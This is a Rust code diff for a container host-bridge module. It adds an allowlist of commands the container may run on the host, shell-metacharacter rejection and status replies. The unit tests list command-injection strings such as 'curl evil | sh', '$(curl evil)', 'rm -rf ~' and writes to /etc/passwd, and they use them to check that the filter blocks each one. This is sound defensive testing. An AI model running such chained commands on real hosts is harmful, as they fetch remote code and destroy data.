@@ -3,7 +3,11 @@
 //! Provides a TCP-based bridge that allows the container to execute
 //! commands on the host system (like sudo) with full PTY support
 //! for interactive commands.
+//!
+//! Every request is answered with a status line (`OK` or `DENIED <reason>`)
+//! before any command output, so the shims can exit non-zero on rejection.
 
+use crate::manifest::BridgeConfig;
 use sha2::{Digest, Sha256};
 use std::ffi::CString;
 use std::io::{Read as IoRead, Write as IoWrite};
@@ -65,22 +69,29 @@ fn generate_token() -> String {
 
 /// Start the host bridge listener in a background thread
 /// Uses port 0 to let OS assign an available port
-pub fn start_host_bridge() -> Result<BridgeHandle, BridgeError> {
+pub fn start_host_bridge(config: &BridgeConfig) -> Result<BridgeHandle, BridgeError> {
     // Bind to port 0 - OS will assign an available port
     let listener = TcpListener::bind("127.0.0.1:0")?;
     let port = listener.local_addr()?.port();
     let token = generate_token();
 
-    eprintln!("[voidbox] Host bridge listening on 127.0.0.1:{}", port);
+    crate::debug!("Host bridge listening on 127.0.0.1:{}", port);
+    if !config.allowed_commands.is_empty() {
+        crate::debug!(
+            "Host bridge restricted to: {}",
+            config.allowed_commands.join(", ")
+        );
+    }
 
     listener.set_nonblocking(true)?;
 
     let running = Arc::new(AtomicBool::new(true));
     let running_clone = running.clone();
     let token_clone = token.clone();
+    let allowed = Arc::new(config.allowed_commands.clone());
 
     let handle = thread::spawn(move || {
-        host_bridge_loop(listener, running_clone, token_clone);
+        host_bridge_loop(listener, running_clone, token_clone, allowed);
     });
 
     thread::sleep(Duration::from_millis(50));
@@ -117,7 +128,12 @@ impl Drop for BridgeHandle {
     }
 }
 
-fn host_bridge_loop(listener: TcpListener, running: Arc<AtomicBool>, token: String) {
+fn host_bridge_loop(
+    listener: TcpListener,
+    running: Arc<AtomicBool>,
+    token: String,
+    allowed: Arc<Vec<String>>,
+) {
     let listener_fd = listener.as_raw_fd();
 
     while running.load(Ordering::SeqCst) {
@@ -147,10 +163,14 @@ fn host_bridge_loop(listener: TcpListener, running: Arc<AtomicBool>, token: Stri
 
         if poll_fds[0].revents & libc::POLLIN != 0 {
             match listener.accept() {
-                Ok((stream, _)) => {
+                Ok((stream, peer)) => {
+                    crate::trace!("Host bridge connection from {}", peer);
                     let token_clone = token.clone();
+                    let allowed_clone = allowed.clone();
                     thread::spawn(move || {
-                        if let Err(e) = handle_interactive_connection(stream, &token_clone) {
+                        if let Err(e) =
+                            handle_interactive_connection(stream, &token_clone, &allowed_clone)
+                        {
                             eprintln!("[voidbox-bridge] Connection error: {}", e);
                         }
                     });
@@ -168,9 +188,33 @@ fn host_bridge_loop(listener: TcpListener, running: Arc<AtomicBool>, token: Stri
     }
 }
 
+/// Characters that let `sh -c` run more than the allowlisted program
+const SHELL_METACHARACTERS: &[char] = &[';', '&', '|', '$', '(', ')', '`', '<', '>', '\n'];
+
+/// Check a command line against the allowlist (empty list allows everything)
+///
+/// The first word must be exactly an entry: a bare name (`apt`, looked up in
+/// the host's PATH) or an absolute path (`/usr/bin/apt`). The line runs
+/// through `sh -c`, so with an allowlist any shell metacharacter rejects it.
+fn is_command_allowed(cmd: &str, allowed: &[String]) -> bool {
+    if allowed.is_empty() {
+        return true;
+    }
+    if cmd.contains(SHELL_METACHARACTERS) {
+        return false;
+    }
+
+    let Some(program) = cmd.split_whitespace().next() else {
+        return false;
+    };
+
+    allowed.iter().any(|entry| entry == program)
+}
+
 fn handle_interactive_connection(
     mut stream: TcpStream,
     expected_token: &str,
+    allowed: &[String],
 ) -> Result<(), BridgeError> {
     let mut buf = [0u8; 4096];
     let mut line_buf = String::new();
@@ -224,12 +268,22 @@ fn handle_interactive_connection(
         return Ok(());
     };
 
+    if !is_command_allowed(cmd, allowed) {
+        let program = cmd.split_whitespace().next().unwrap_or(cmd);
+        eprintln!("[voidbox-bridge] Denied: {}", cmd);
+        writeln!(stream, "DENIED command not allowed: {}", program)?;
+        return Ok(());
+    }
+
     let shell_cmd = if use_sudo {
         format!("sudo {}", cmd)
     } else {
         cmd.to_string()
     };
 
+    eprintln!("[voidbox-bridge] Executing: {}", shell_cmd);
+    stream.write_all(b"OK\n")?;
+
     let (master, slave) = open_pty()?;
     let master_fd = master.as_raw_fd();
     let slave_fd = slave.as_raw_fd();
@@ -374,3 +428,44 @@ fn forward_pty_socket(master_fd: i32, stream: &mut TcpStream) -> Result<(), Brid
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn allowlist_matches_first_word() {
+        let allowed = vec!["apt".to_string(), "/usr/bin/dnf".to_string()];
+        assert!(is_command_allowed("apt install vim", &allowed));
+        assert!(is_command_allowed("/usr/bin/dnf upgrade", &allowed));
+        assert!(!is_command_allowed("curl example.com", &allowed));
+        assert!(is_command_allowed("anything at all", &[]));
+    }
+
+    #[test]
+    fn allowlist_requires_the_exact_program() {
+        let allowed = vec!["apt".to_string(), "/usr/bin/dnf".to_string()];
+        assert!(!is_command_allowed("/tmp/x/apt update", &allowed));
+        assert!(!is_command_allowed("./apt update", &allowed));
+        assert!(!is_command_allowed("/usr/bin/apt update", &allowed));
+        assert!(!is_command_allowed("dnf upgrade", &allowed));
+    }
+
+    #[test]
+    fn allowlist_rejects_shell_chaining() {
+        let allowed = vec!["apt".to_string()];
+        for cmd in [
+            "apt; curl evil | sh",
+            "apt && rm -rf ~",
+            "apt || sh",
+            "apt install $(curl evil)",
+            "apt install `id`",
+            "apt install vim > /etc/passwd",
+            "apt install < /dev/null",
+            "apt & sh",
+            "apt\nsh",
+        ] {
+            assert!(!is_command_allowed(cmd, &allowed), "{}", cmd);
+        }
+    }
+}